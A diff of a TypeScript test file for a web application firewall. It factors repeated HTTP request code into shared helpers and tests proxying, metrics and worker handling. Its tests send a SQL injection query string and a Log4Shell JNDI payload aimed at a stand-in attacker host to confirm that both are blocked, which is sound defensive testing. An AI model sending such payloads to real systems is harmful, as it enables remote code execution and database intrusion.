@@ -33,6 +33,27 @@ const ready = (child: ReturnType<typeof spawn>): Promise<void> =>
     child.on('exit', (code) => fail(new Error(`exited ${String(code)}`)));
   });
 
+type Answer = { status: number; body: string };
+
+/** A GET over loopback with a browser's basic headers (plus `headers`), each on a new connection, so every worker of a `--workers 2` WAF takes some. */
+const httpGet = (port: number, path: string, headers: Record<string, string> = {}): Promise<Answer> =>
+  new Promise((ok, fail) => {
+    request({ host: '127.0.0.1', port, path, agent: false, headers: { host: 'shop.example', 'user-agent': 'Mozilla/5.0', accept: 'text/html', ...headers } }, (res) => {
+      let body = '';
+      res.on('data', (c: Buffer) => (body += c.toString()));
+      res.on('end', () => ok({ status: res.statusCode ?? 0, body }));
+    })
+      .on('error', fail)
+      .end();
+  });
+
+/** A plain HTTP app on a free loopback port, for the WAF to proxy to. */
+const startUpstream = async (handler: Parameters<typeof createServer>[1]): Promise<{ server: ReturnType<typeof createServer>; port: number }> => {
+  const server = createServer(handler);
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return { server, port: (server.address() as AddressInfo).port };
+};
+
 describe('bulwark waf: rule errors', () => {
   it('a malformed rule file is one line naming file and line, exit 2', () => {
     const dir = mkdtempSync(join(tmpdir(), 'waf-rules-'));
@@ -135,9 +156,7 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
   }, 180_000);
 
   it('serves as a reverse proxy: benign requests pass, SQL injection and Log4Shell get 403', async () => {
-    const upstream = createServer((req, res) => res.end(`upstream saw ${req.url ?? ''}`));
-    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
-    const upstreamPort = (upstream.address() as AddressInfo).port;
+    const { server: upstream, port: upstreamPort } = await startUpstream((req, res) => res.end(`upstream saw ${req.url ?? ''}`));
     const probe = createServer();
     await new Promise<void>((r) => probe.listen(0, '127.0.0.1', r));
     const port = (probe.address() as AddressInfo).port;
@@ -153,16 +172,7 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
       const workers = spawnSync('pgrep', ['-P', String(child.pid)], { encoding: 'utf8' }).stdout.trim().split('\n').filter(Boolean).map(Number);
       expect(workers).toHaveLength(1);
       expect(readFileSync(`/proc/${String(workers[0])}/cmdline`, 'latin1').split('\0')).toContain('--max-semi-space-size=32');
-      const get = (path: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> =>
-        new Promise((ok, fail) => {
-          request({ host: '127.0.0.1', port, path, headers: { host: 'shop.example', 'user-agent': 'Mozilla/5.0', accept: 'text/html', ...headers } }, (res) => {
-            let body = '';
-            res.on('data', (c: Buffer) => (body += c.toString()));
-            res.on('end', () => ok({ status: res.statusCode ?? 0, body }));
-          })
-            .on('error', fail)
-            .end();
-        });
+      const get = (path: string, headers: Record<string, string> = {}): Promise<Answer> => httpGet(port, path, headers);
       expect(await get('/products?id=42&sort=price')).toEqual({ status: 200, body: 'upstream saw /products?id=42&sort=price' });
       expect((await get("/products?id=1'%20or%20'1'='1")).status).toBe(403);
       expect((await get('/', { 'x-api-version': '${jndi:ldap://attacker.example/a}' })).status).toBe(403);
@@ -171,7 +181,7 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
       for (let i = 0; i < 100 && !stderr.includes('starting another'); i++) await new Promise((r) => setTimeout(r, 100));
       expect(stderr).toContain(`worker ${String(workers[0])} exited (SIGKILL); starting another`);
       // With no worker left the listener closes until the new one has loaded the rules.
-      let after: { status: number; body: string } | undefined;
+      let after: Answer | undefined;
       for (let i = 0; i < 150 && !after; i++) after = await get('/products?id=7').catch(() => new Promise<undefined>((r) => setTimeout(() => r(undefined), 100)));
       expect(after).toEqual({ status: 200, body: 'upstream saw /products?id=7' });
     } finally {
@@ -196,16 +206,7 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
       await ready(child);
       return { port, stderr: () => stderr };
     };
-    const get = (port: number): Promise<{ status: number; body: string }> =>
-      new Promise((ok, fail) => {
-        request({ host: '127.0.0.1', port, path: '/orders?id=7' }, (res) => {
-          let body = '';
-          res.on('data', (c: Buffer) => (body += c.toString()));
-          res.on('end', () => ok({ status: res.statusCode ?? 0, body }));
-        })
-          .on('error', fail)
-          .end();
-      });
+    const get = (port: number): Promise<Answer> => httpGet(port, '/orders?id=7');
     try {
       const trusted = await start(['--upstream-ca', TLS_CERT]);
       expect(await get(trusted.port)).toEqual({ status: 200, body: 'tls upstream saw /orders?id=7' });
@@ -221,35 +222,22 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
   }, 60_000);
 
   it('--metrics-listen: the primary serves the counters of all workers as one Prometheus text', async () => {
-    const upstream = createServer((_req, res) => res.end('ok'));
-    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
-    const upstreamPort = (upstream.address() as AddressInfo).port;
+    const { server: upstream, port: upstreamPort } = await startUpstream((_req, res) => res.end('ok'));
     const [port, metricsPort] = [await freePort(), await freePort()];
     const child = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${port}`, '--upstream', `http://127.0.0.1:${upstreamPort}`, '--rules', CRS, '--workers', '2', '--metrics-listen', `127.0.0.1:${metricsPort}`], { stdio: ['ignore', 'ignore', 'pipe'] });
-    const get = (at: number, path: string): Promise<{ status: number; body: string }> =>
-      new Promise((ok, fail) => {
-        // A new connection per request, so both workers take some.
-        request({ host: '127.0.0.1', port: at, path, agent: false, headers: { host: 'shop.example', 'user-agent': 'Mozilla/5.0', accept: 'text/html' } }, (res) => {
-          let body = '';
-          res.on('data', (c: Buffer) => (body += c.toString()));
-          res.on('end', () => ok({ status: res.statusCode ?? 0, body }));
-        })
-          .on('error', fail)
-          .end();
-      });
     try {
       await ready(child);
       const statuses: number[] = [];
-      for (let i = 0; i < 6; i++) statuses.push((await get(port, `/products?id=${i}`)).status);
-      statuses.push((await get(port, "/products?id=1'%20or%20'1'='1")).status);
+      for (let i = 0; i < 6; i++) statuses.push((await httpGet(port, `/products?id=${i}`)).status);
+      statuses.push((await httpGet(port, "/products?id=1'%20or%20'1'='1")).status);
       expect(statuses).toEqual([200, 200, 200, 200, 200, 200, 403]);
       await new Promise((r) => setTimeout(r, 1500)); // past the workers' one-second report
-      const metrics = await get(metricsPort, '/metrics');
+      const metrics = await httpGet(metricsPort, '/metrics');
       expect(metrics.status).toBe(200);
       const count = (outcome: string): number => Number(new RegExp(`^bulwark_waf_requests_total\\{outcome="${outcome}"\\} (\\d+)$`, 'm').exec(metrics.body)?.[1] ?? NaN);
       expect(count('passed') + count('detected')).toBe(6);
       expect(count('blocked')).toBe(1);
-      expect((await get(metricsPort, '/other')).status).toBe(404);
+      expect((await httpGet(metricsPort, '/other')).status).toBe(404);
     } finally {
       child.kill('SIGTERM');
       upstream.close();
@@ -257,9 +245,7 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
   }, 60_000);
 
   it('--workers: SIGTERM after proxied traffic stops primary and workers quietly; a killed primary leaves no orphans; a killed worker is replaced', async () => {
-    const upstream = createServer((_req, res) => res.end('ok'));
-    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
-    const upstreamPort = (upstream.address() as AddressInfo).port;
+    const { server: upstream, port: upstreamPort } = await startUpstream((_req, res) => res.end('ok'));
     const alive = (pid: number): boolean => {
       try {
         process.kill(pid, 0);
